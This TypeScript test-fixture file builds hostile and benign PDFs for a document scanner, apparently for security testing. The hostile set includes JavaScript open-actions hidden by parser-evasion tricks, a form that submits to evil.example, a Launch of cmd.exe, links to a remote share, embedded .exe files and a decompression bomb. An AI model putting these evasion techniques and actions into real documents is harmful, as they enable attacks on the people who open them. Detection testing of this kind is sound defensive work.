import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';

import {
  HEADER,
  type Objects,
  PdfWriter,
  type Place,
  packedPdf,
  pdfOf,
  stream,
  updatedPdf,
} from './pdf-writer.ts';

export type PdfCase = { what: string; bytes: Buffer; code?: string };
const CONTENT = 'BT /F1 24 Tf 72 720 Td (Comprovante de pagamento) Tj ET';

/** The five objects of a page with a line of text. */
const page = ({
  catalog = '',
  page = '',
  more = {},
}: {
  catalog?: string;
  page?: string;
  more?: Objects;
} = {}): Objects => ({
  1: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
  2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
  4: stream(CONTENT),
  5: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ...more,
});

const JS = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const annotation = (fields: string) =>
  page({ page: `/Annots [6 0 R]`, more: { 6: `<< /Type /Annot /Rect [0 0 9 9] ${fields} >>` } });

/** Hides an object from a plain reading, in a comment or a string; the cross-reference table points to it. */
function hidden(before: string, after: string): Buffer {
  const file = new PdfWriter().raw(HEADER);
  for (const [number, body] of Object.entries(page({ catalog: '/OpenAction 9 0 R' })))
    file.object(Number(number), body);
  const text = `9 0 obj ${JS} endobj`;
  return file.raw(before + text + after, { number: 9, at: before.length }).table().bytes;
}

function twice(): Buffer {
  const file = new PdfWriter().raw(HEADER);
  for (const [number, body] of Object.entries(page({ catalog: '/OpenAction 9 0 R' })))
    file.object(Number(number), body);
  file.object(9, JS);
  const first = file.places.get(9) as Place;
  file.object(9, '<< /S /GoTo /D [3 0 R /Fit] >>');
  file.places.set(9, first);
  return file.table().bytes;
}

const opens = (action: string, more: Objects = {}) => pdfOf(page({ catalog: `/OpenAction ${action}`, more }));
const packedJs = (options: Parameters<typeof packedPdf>[1] = {}) =>
  packedPdf(page({ catalog: '/OpenAction 9 0 R', more: { 9: JS } }), options);

export function hostilePdfs(): PdfCase[] {
  const uri = '<< /S /URI /URI (https://evil.example/) >>';
  const made: [string, Buffer, string?][] = [
    ['a script when it opens', opens(JS)],
    ['a script by reference', opens('9 0 R', { 9: JS })],
    [
      'a script in a name with escapes',
      pdfOf(annotation('/Subtype /Link /A << /S /J#61va#53cript /#4a#53 (1) >>')),
    ],
    [
      'a script between words that look like a stream',
      pdfOf(page({ catalog: `\n% stream\n/OpenAction ${JS}\n% endstream\n` })),
    ],
    ['a script behind a comment', pdfOf(page({ catalog: `/Open%\nAction 0 /OpenAction%)>>\n${JS}` }))],
    ['a script in a comment that the table leads to', hidden('% ', '\n')],
    ['a script in a string that the table leads to', hidden('8 0 obj ( ', ' ) endobj\n')],
    [
      'a script in a stream that the table leads to',
      hidden('8 0 obj << /Length 60 >> stream\n', '\nendstream endobj\n'),
    ],
    ['a script in the first of two objects with one number', twice()],
    [
      'a script behind the end of its object',
      pdfOf(page({ catalog: 'endobj /OpenAction << /S /URI /URI (https://x/) >>' })),
    ],
    [
      'an action with something behind it',
      opens('9 0 R 1 2 3 4 5 6 7 8 9', { 9: '<< /S /URI /URI (https://x/) >>' }),
    ],
    [
      'a script in the names of the document',
      pdfOf(page({ catalog: `/Names << /JavaScript << /Names [(a) ${JS}] >> >>` })),
    ],
    ['a script in a packed object', packedJs()],
    ['a script in a stream of objects that is not packed', packedJs({ pack: (data) => data, filter: '' })],
    ['a script in a stream of objects without a type', packedJs({ dict: '' })],
    [
      'a script in a stream of objects with a filter in a list',
      packedJs({ filter: '/Filter [/FlateDecode]' }),
    ],
    [
      'a script in a stream of objects in hexadecimal',
      packedJs({
        pack: (data) => Buffer.from(`${data.toString('hex')}>`),
        filter: '/Filter /ASCIIHexDecode',
      }),
      'pdf-unreadable',
    ],
    [
      'a stream of objects with a predictor',
      packedJs({ filter: '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>' }),
      'pdf-unreadable',
    ],
    [
      'a stream of objects with two filters of one name',
      packedJs({ filter: '/Filter /ASCIIHexDecode /Filter /FlateDecode' }),
      'pdf-unreadable',
    ],
    [
      'a script in a newer version',
      updatedPdf(page(), { 1: page({ catalog: `/OpenAction ${JS}` })[1] as string }),
    ],
    [
      'a script in an older version',
      updatedPdf(page({ catalog: `/OpenAction ${JS}` }), { 1: page()[1] as string }),
    ],
    ['a script whose kind stands elsewhere', opens('<< /S 9 0 R /X 1 >>', { 9: '/JavaScript' })],
    [
      'a form that is sent',
      pdfOf(annotation('/Subtype /Widget /FT /Btn /A << /S /SubmitForm /F (https://evil.example/) >>')),
    ],
    [
      'a form that fetches data',
      pdfOf(annotation('/Subtype /Widget /FT /Btn /A << /S /ImportData /F (x.fdf) >>')),
    ],
    ['a program behind a link', pdfOf(annotation('/Subtype /Link /A << /S /Launch /F (cmd.exe) >>'))],
    [
      'a page of another machine behind a link',
      pdfOf(annotation('/Subtype /Link /A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>')),
    ],
    ['a page of another machine', opens('<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>')],
    ['a page of an embedded file', opens('<< /S /GoToE /D [0 /Fit] >>')],
    ['an address that opens without a click', opens(uri)],
    ['an address that opens without a click, by reference', opens('9 0 R', { 9: uri })],
    ['an address that opens without a click, by two references', opens('8 0 R', { 8: '9 0 R', 9: uri })],
    ['an address behind a harmless action', opens(`<< /S /GoTo /D [3 0 R /Fit] /Next ${uri} >>`)],
    ['an address when its page is shown', pdfOf(page({ page: `/AA << /O ${uri} >>` }))],
    [
      'an address when its page is shown, by reference',
      pdfOf(page({ page: '/AA 9 0 R', more: { 9: `<< /O ${uri} >>` } })),
    ],
    [
      'an address when a field is left',
      pdfOf(
        page({
          catalog: '/AcroForm << /Fields [6 0 R] >>',
          more: { 6: `<< /FT /Tx /T (a) /AA << /Bl ${uri} >> >>` },
        }),
      ),
    ],
    [
      'a link into the own machine',
      pdfOf(annotation('/Subtype /Link /A << /S /URI /URI (file:///c:/x.exe) >>')),
    ],
    [
      'a link to a script, in octal',
      pdfOf(annotation('/Subtype /Link /A << /S /URI /URI (\\152avascript:alert\\(1\\)) >>')),
    ],
    [
      'a link to a script, in hexadecimal',
      pdfOf(annotation('/Subtype /Link /A << /S /URI /URI <6a6176617363726970743a31> >>')),
    ],
    [
      'embedded files',
      pdfOf(
        page({
          catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
          more: { 6: '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>', 7: stream('MZ') },
        }),
      ),
    ],
    ['a file pinned to a page', pdfOf(annotation('/Subtype /FileAttachment /FS << /F (a.exe) >>'))],
    [
      'a file that belongs to the document',
      pdfOf(page({ catalog: '/AF [6 0 R]', more: { 6: '<< /F (a.xml) >>' } })),
    ],
    [
      'a file in a specification alone',
      pdfOf(page({ more: { 6: '<< /F (a.exe) /EF << /F 7 0 R >> >>', 7: stream('MZ') } })),
    ],
    ['an XFA form', pdfOf(page({ catalog: '/AcroForm << /XFA 6 0 R >>', more: { 6: stream('<xdp/>') } }))],
    ['rich media', pdfOf(annotation('/Subtype /RichMedia'))],
    ['a 3D scene', pdfOf(annotation('/Subtype /3D'))],
    ['a film', pdfOf(annotation('/Subtype /Movie /Movie << /F (a.mpg) >>'))],
    ['a sound', pdfOf(annotation('/Subtype /Sound /Sound 7 0 R'))],
    ['a rendition', pdfOf(annotation('/Subtype /Screen /A << /S /Rendition >>'))],
    ['a stream in another file', pdfOf(page({ more: { 6: stream('x', '/F (\\\\\\\\evil\\\\a)') } }))],
    ['a password', pdfOf(page(), '/Encrypt << /Filter /Standard /V 2 >>'), 'pdf-locked'],
    [
      'a password, said in a table that is a stream',
      packedPdf(page(), { table: '/Encrypt 6 0 R' }),
      'pdf-locked',
    ],
    ['objects that nest without end', pdfOf(page({ more: { 6: '['.repeat(100_000) } })), 'pdf-unreadable'],
    [
      'dictionaries that nest without end',
      pdfOf(page({ more: { 6: '<</A'.repeat(100_000) } })),
      'pdf-unreadable',
    ],
    [
      'a stream of objects that unpacks to 200 MB',
      packedJs({ pack: (data) => deflateSync(Buffer.concat([data, Buffer.alloc(200_000_000, 32)])) }),
      'pdf-unreadable',
    ],
    [
      'an object that begins at every third byte',
      pdfOf(page({ more: { 6: 'obj('.repeat(500_000) } })),
      'pdf-unreadable',
    ],
    [
      'more streams of objects than a file has',
      pdfOf(page({ more: { 6: '1 0 obj <</Type/ObjStm/N 0/First 0>> stream endstream '.repeat(6_000) } })),
      'pdf-unreadable',
    ],
  ];
  return made.map(([what, bytes, code = 'pdf-active']) => ({ what, bytes, code }));
}

type Draw = (doc: PDFKit.PDFDocument) => void;

function kit(draw: Draw, options: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> {
  const doc = new PDFDocument(options);
  const parts: Buffer[] = [];
  doc.on('data', (part: Buffer) => parts.push(part));
  const made = new Promise<Buffer>((resolve) => doc.on('end', () => resolve(Buffer.concat(parts))));
  draw(doc);
  doc.end();
  return made;
}

export async function benignPdfs(): Promise<PdfCase[]> {
  const clicked = '/Subtype /Link /A << /S /URI /URI (https://www.banco.com.br/JS/Launch?a=/AA) >>';
  const made: [string, Buffer | Promise<Buffer>][] = [
    ['a page', pdfOf(page())],
    ['packed objects and a table that is a stream', packedPdf(page())],
    ['objects in a stream that is not packed', packedPdf(page(), { pack: (data) => data, filter: '' })],
    ['a newer version', updatedPdf(page(), { 1: page({ catalog: '/PageMode /UseOutlines' })[1] as string })],
    ['a link that waits for a click', pdfOf(annotation(clicked))],
    ['the same, packed', packedPdf(annotation(clicked))],
    ['a link to a mail', pdfOf(annotation('/Subtype /Link /A << /S /URI /URI (mailto:sac@banco.com.br) >>'))],
    ['a place where it opens', opens('[3 0 R /XYZ null null 0]')],
    ['a place where it opens, by reference', opens('9 0 R', { 9: '<< /S /GoTo /D [3 0 R /Fit] >>' })],
    ['a wish to be printed', opens('<< /S /Named /N /Print >>')],
    [
      'words of danger in texts and comments',
      pdfOf({
        ...page({ catalog: '/X (/JavaScript \\(/OpenAction\\) /Launch)\n% /JS /AA\n' }),
        4: stream('BT (/JavaScript /EmbeddedFile) Tj ET'),
      }),
    ],
    ['nothing to do on a page', pdfOf(page({ page: '/AA << >>', catalog: '/AF []' }))],
    [
      'a form to fill in',
      pdfOf(
        page({
          catalog: '/AcroForm << /Fields [6 0 R] /NeedAppearances true >>',
          page: '/Annots [6 0 R]',
          more: { 6: '<< /Type /Annot /Subtype /Widget /FT /Tx /T (nome) /V (Ana) /Rect [0 0 9 9] >>' },
        }),
      ),
    ],
    [
      'a signature',
      updatedPdf(page(), {
        1: page({ catalog: '/AcroForm << /Fields [6 0 R] /SigFlags 3 >>' })[1] as string,
        6: `<< /FT /Sig /T (s) /V << /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 9 9 9] /Contents <${'30'.repeat(8_000)}> >> >>`,
      }),
    ],
    [
      'words about itself',
      pdfOf(
        page({
          catalog: '/Metadata 6 0 R',
          more: {
            6: stream('<?xpacket?><x:xmpmeta xmlns:x="adobe:ns:meta/"/>', '/Type /Metadata /Subtype /XML'),
          },
        }),
      ),
    ],
    ['bookmarks', kit((doc) => void doc.text('Um').outline.addItem('Um'))],
    ['a letter of two pages', kit((doc) => doc.text('Prezado cliente').addPage().text('Atenciosamente'))],
    [
      'a letter with links',
      kit((doc) => doc.text('Acesse o site', { link: 'https://www.banco.com.br', underline: true })),
    ],
    ['a letter without compression', kit((doc) => doc.text('Prezado cliente'), { compress: false })],
    [
      'a tagged letter',
      kit(
        (doc) =>
          void doc.addStructure(doc.struct('Document', {}, [doc.struct('P', {}, () => void doc.text('Oi'))])),
        {
          tagged: true,
          pdfVersion: '1.7',
        },
      ),
    ],
    [
      'a form by a library',
      kit((doc) => {
        doc.font('Helvetica').initForm();
        doc.formText('nome', 10, 10, 100, 20, { value: 'Ana' });
      }),
    ],
  ];
  return Promise.all(made.map(async ([what, bytes]) => ({ what, bytes: await bytes })));
}

/** A file of this size whose every byte has to be read: one long object, or many small ones. */
export const longPdf = (bytes: number, kind: 'one' | 'many'): Buffer =>
  pdfOf(
    page({
      more:
        kind === 'one'
          ? { 6: `[${'/Nome (valor) 12 0 R '.repeat(bytes / 21)}]` }
          : Object.fromEntries(
              Array.from({ length: bytes / 50 }, (_, at) => [at + 6, `<< /Type /X /Y (${at}) /Z [1 2 3] >>`]),
            ),
    }),
  );
